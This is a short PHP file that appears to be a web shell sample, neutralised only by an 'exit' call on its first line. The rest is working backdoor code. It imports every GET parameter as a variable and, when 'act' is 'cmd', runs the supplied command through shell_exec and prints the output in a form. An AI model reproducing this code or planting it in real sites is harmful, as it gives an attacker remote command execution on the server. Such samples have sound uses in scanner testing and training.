<?php exit; /* inert */ 
foreach($_GET as $key => $value) { ${$key} = $value; }
function myshell($cmd) { $r = ""; if (!empty($cmd)) { if (is_callable("shell_exec")) { $r = shell_exec($cmd); } } return $r; }
switch($act){ case "cmd": ?><form><textarea><?php echo myshell($cmd); ?></textarea></form><?php break; default: echo "x"; }
